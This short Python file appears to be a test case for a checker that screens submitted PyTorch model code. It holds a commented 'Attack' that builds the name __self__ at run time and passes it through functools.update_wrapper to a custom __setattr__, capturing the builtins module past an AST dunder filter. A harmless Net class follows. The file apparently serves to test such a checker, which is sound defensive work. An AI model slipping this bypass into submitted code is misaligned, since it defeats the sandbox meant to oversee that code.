# Attack: functools.update_wrapper reads attributes named by strings (built at run time, so no dunder in the
# AST) and hands them to a __setattr__ the candidate wrote: print's __self__ is the builtins module.
import functools

import torch.nn as nn

STASH = []


class Box:
    def __setattr__(self, name, value):
        STASH.append(value)


functools.update_wrapper(Box(), print, assigned=("_" * 2 + "self" + "_" * 2,), updated=())
builtins_module = STASH[0]


class Net(nn.Module):
    def __init__(self, num_classes=10, in_channels=3):
        super().__init__()
        self.fc = nn.Linear(in_channels, num_classes)

    def forward(self, x):
        return self.fc(x.mean((2, 3)))
